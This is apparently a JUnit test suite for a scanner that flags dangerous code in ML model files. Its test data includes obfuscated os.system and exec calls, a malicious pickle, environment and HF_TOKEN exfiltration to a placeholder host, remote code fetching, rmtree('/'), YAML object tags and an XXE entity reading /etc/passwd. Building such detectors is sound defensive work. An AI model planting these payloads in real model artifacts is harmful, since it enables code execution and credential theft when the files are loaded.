package io.lazaretto.artifact.inspect;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.report.Outcome.INCONCLUSIVE;
import static io.lazaretto.artifact.report.Outcome.SUSPECT;
import static io.lazaretto.artifact.report.Outcome.THREAT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import io.lazaretto.artifact.testing.ZipBuilder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Python, YAML, XML and the JSON that names code: what fires, and the nearest harmless thing. */
class ActiveTextTest {
    private static final String MODELING = """
            # coding=utf-8
            \"""A small decoder.\"""
            import math
            import os
            from typing import List, Optional, Tuple, Union

            import torch
            from torch import nn
            from transformers import PreTrainedModel
            from .configuration_small import SmallConfig

            try:
                from flash_attn import flash_attn_func
            except ImportError:
                flash_attn_func = None

            logger = __import__("logging").getLogger(__name__)
            ACT = {"gelu": nn.GELU, "silu": lambda: nn.SiLU()}

            class SmallAttention(nn.Module):
                def __init__(self, config: SmallConfig, layer_idx: Optional[int] = None):
                    super().__init__()
                    self.scale = 1 / math.sqrt(config.hidden_size // config.num_heads)
                    self.q_proj, self.k_proj = (nn.Linear(config.hidden_size, config.hidden_size) for _ in range(2))

                def forward(self, hidden: torch.Tensor, *, mask=None, **kwargs) -> Tuple[torch.Tensor, ...]:
                    scores = self.q_proj(hidden) @ self.k_proj(hidden).transpose(-1, -2) * self.scale
                    if mask is not None and (size := mask.shape[-1]) > 1:
                        scores = scores.masked_fill(mask[..., :size] == 0, float("-inf"))
                    return nn.functional.softmax(scores, dim=-1, dtype=torch.float32).to(hidden.dtype),

            class SmallModel(PreTrainedModel):
                config_class = SmallConfig

                @torch.no_grad()
                def save_vocabulary(self, folder: str, prefix: Optional[str] = None):
                    path = os.path.join(folder, f"{prefix or ''}vocab.txt")
                    with open(path, "w", encoding="utf-8") as out:
                        out.write("\\n".join(f"{k!r:>{10}}" for k in ["a", "b"]))
                    self.eval()
                    return getattr(self, f"layer_{0}", None), os.environ.get("LOCAL_RANK", "0")
            """;

    @Test
    void ordinaryModellingCodeStaysSilentAndIsNoted() {
        InspectionAssert result = python(MODELING).staysSilent();
        assertThat(InspectionAssert.rules(result.report(CODE))).containsExactly("code.present");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os\nos.system('id')",
                "import os as o\no.popen('id')",
                "from os import system as s\nclass A:\n    x = s('id')",
                "from os import *\nsystem('id')",
                "getattr(__import__('o' + 's'), 'sys' 'tem')('id')",
                "import importlib\nimportlib.import_module('subprocess').run(['id'])",
                "def f(x=__import__('os').popen('id')): pass",
                "import os\ndef start():\n    os.system('id')\nstart()",
                "import os\nclass C:\n    def run(self): os.system('id')\nC().run()",
                "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')",
                "class P:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))",
                "import pathlib\npathlib.os.system('id')",
                "import sys\nsys.modules['os'].system('id')",
                "import os\nos.__getattribute__('system')('id')",
                "vars(__import__('os'))['system']('id')",
                "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
                "import os\np = {'k': os.system}\np['k']('id')",
                "list(map(__import__('os').system, ['id']))",
                "import os\nf'{os.system(\"id\")}'",
                "import os\nif __name__ != '__main__':\n    os.system('id')",
                "import base64\nexec(base64.b64decode('eCA9IDE='))",
                "exec(''.join(chr(x) for x in [120, 61, 49]))",
                "import codecs\neval(codecs.decode('k', 'rot13'))",
                "import urllib.request\ndef f():\n    exec(urllib.request.urlopen('http://x').read())",
                "import requests, os\ndef f():\n    requests.post('http://x', json=dict(os.environ))",
                "import requests, os\ndef f():\n    requests.post('http://x', data=os.getenv('HF_TOKEN'))",
                "import socket\ns = socket.socket()",
                "def f():\n    open('/var/root/.bashrc', 'a').write('x')",
                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
                "import os\nobject.__getattribute__(os, 'system')('id')",
                "import os\nos.system.__call__('id')",
                "print.__self__.__dict__['eval']('__import__(\"os\").system(\"id\")')",
                "import ctypes\nctypes.CDLL(None).system(b'id')",
                "import shutil\nshutil.rmtree('/')",
                "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
                "import code\ncode.InteractiveInterpreter().runsource('import os;os.system(1)')"
            })
    void harmAtImportIsAThreat(String source) {
        assertThat(python(source).report(CODE).outcome()).isEqualTo(THREAT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os\ndef f():\n    os.system('id')",
                "import os\nif __name__ == '__main__':\n    os.system('id')",
                "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))",
                "import torch\nx = torch.load('x', weights_only=False)",
                "import shutil\nshutil.rmtree('out')",
                "import numpy\nx = numpy.load('a.npy', allow_pickle=True)",
                "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
                "import ctypes\nctypes.CDLL(None)",
                "import requests\ndef f(u):\n    return requests.get(u)",
                "def f(x):\n    return eval(x)",
                "import os, sys\ndef f(x):\n    getattr(os, x)()",
                "().__class__.__bases__[0].__subclasses__()",
                "import importlib\ndef f(x):\n    importlib.import_module(x)",
                "exec = 1\nif exec: pass\ndef f():\n    import builtins\n    builtins.exec('1')",
                "# coding: utf-7\nx = 1",
                "x = 1 # \u202e reversed"
            })
    void aDangerousCapabilityIsSuspicious(String source) {
        assertThat(python(source).report(CODE).outcome()).isEqualTo(SUSPECT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import torch\ndef f(p):\n    return torch.load(p, weights_only=True)",
                "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=False)",
                "import os\nx = os.path.join.__call__('a', 'b')",
                "import numpy\nx = numpy.load('a.npy')",
                "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.SafeLoader)",
                "import re\nP = re.compile('x')\nmodel = object()\nmodel.eval()",
                "import subprocess\ndef f(x):\n    return isinstance(x, subprocess.Popen)",
                "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nx = os.path.join('a', 'b')",
                "import base64\ndef f(x):\n    return base64.b64decode(x)",
                "match = 1\nmatch[0:1]\nprint(match)\ntype = 2\ntype X = int\n",
                "def f[T: int](x: T, /, *, y=1) -> T: ...\nclass C[T](list[T]): pass",
                "x = rf'\\{1}' f'{x!r:>{y}}' 'b'\ntry: pass\nexcept* (A, B) as e: pass"
            })
    void theNearestHarmlessCodeStaysSilent(String source) {
        python(source).staysSilent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"print 'x'", "def f(:\n  pass", "x = (", "if x:\npass", "\t if x:\n", "x = 'abc", "x = 1 +"})
    void whatDoesNotParseIsInconclusive(String source) {
        python(source).isInconclusive(CODE, "malformed");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {"(|150000", "[|5000", "a.|20000", "lambda:|20000", "x if y else |20000", "2**|20000", "f'{|3000"})
    void nestingIsBounded(String piece, int times) {
        assertThat(python(piece.repeat(times) + "1").report(CODE).outcome()).isEqualTo(INCONCLUSIVE);
    }

    @Test
    void doublingTextIsBounded() {
        assertThat(python("x = 'a'\n" + "x = x + x\n".repeat(5_000))
                        .report(CODE)
                        .outcome())
                .isIn(Outcome.CLEAR, INCONCLUSIVE);
    }

    @Test
    void namesOfCodeAreFollowed() {
        TestingModel model = model().with("config.json", "{\"auto_map\": {\"AutoModel\": \"modeling_x.X\"}}");
        inspecting(model).isInconclusive(CODE, "malformed");
        inspecting(model.with("modeling_x.py", MODELING)).staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "config.json|{\"auto_map\": {\"AutoModel\": \"other/repo--modeling.X\"}}",
                "tokenizer_config.json|{\"auto_map\": {\"AutoTokenizer\": [null, \"other/repo--t.X\"]}}",
                "config.json|{\"custom_pipelines\": {\"a\": {\"impl\": \"o/r--p.X\", \"pt\": [\"AutoModel\"]}}}"
            })
    void codeOfAnotherRepositoryIsSuspicious(String name, String json) {
        assertThat(inspecting(model().with(name, json)).report(CODE).outcome()).isEqualTo(SUSPECT);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a: !!python/object/apply:os.system ['id']|THREAT",
                "a: !!python/name:os.system ''|THREAT",
                "a: !custom {x: 1}|SUSPECT",
                "_target_: os.system|THREAT",
                "model: {_target_: evil.Thing}|SUSPECT",
                "a: 1: 2: 3|INCONCLUSIVE",
                "a: [|INCONCLUSIVE",
                "{a: 1, a: 2}|SUSPECT"
            })
    void yamlThatMakesALoaderActIsReported(String yaml, Outcome outcome) {
        assertThat(inspecting(model().with("conf.yaml", yaml)).report(FORMAT).outcome())
                .isEqualTo(outcome);
    }

    @Test
    void aliasBombsAreBounded() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            bomb.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ",").repeat(9)));
        }
        inspecting(model().with("conf.yaml", bomb.toString())).reports(FORMAT, SUSPECT, "yaml.alias-bomb");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name: env\nchannels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - torch\n",
                "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  lr: 1e-3\n",
                "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: {conda: conda.yaml}\n",
                "base: &base {x: 1}\nother:\n  <<: *base\n"
            })
    void ordinaryYamlStaysSilent(String yaml) {
        inspecting(model().with("conf.yaml", yaml)).staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a.pmml|<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><PMML>&e;</PMML>|THREAT",
                "a.svg|<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>|SUSPECT",
                "a.svg|<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>|SUSPECT",
                "a.xml|<a><b></a>|INCONCLUSIVE",
                "a.html|<html><p>x|CLEAR",
                "a.pmml|<?xml version='1.0'?><PMML version='4.4'><Header/><DataDictionary/></PMML>|CLEAR",
                "a.svg|<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>|CLEAR"
            })
    void markupIsReadWithoutItsEntities(String name, String xml, Outcome outcome) {
        assertThat(inspecting(model().with(name, xml)).report(FORMAT).outcome()).isEqualTo(outcome);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "torch.add(x, x)|CLEAR",
                "torch.save(x, \"a\")|THREAT",
                "torch.from_file(\"/etc/passwd\")|THREAT",
                "ops.image.write_file(\"a\", x)|THREAT",
                "ops.evil.run(x)|SUSPECT",
                "torch.nobody_knows(x)|SUSPECT"
            })
    void torchScriptMayComputeAndNothingElse(String call, Outcome outcome) {
        String code = "class Net(Module):\n  __parameters__ = []\n  training : bool\n"
                + "  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n    return " + call + "\n";
        byte[] zip = new ZipBuilder()
                .stored("net/data.pkl", "(t.".getBytes(StandardCharsets.UTF_8))
                .stored("net/code/__torch__.py", code.getBytes(StandardCharsets.UTF_8))
                .toBytes();
        assertThat(inspecting("net.pt", zip).report(CODE).outcome()).isEqualTo(outcome);
    }

    private static TestingModel model() {
        return new TestingModel().with("model.safetensors", SafetensorsBuilder.clean());
    }

    private static InspectionAssert python(String source) {
        return inspecting(model().with("modeling.py", source));
    }
}
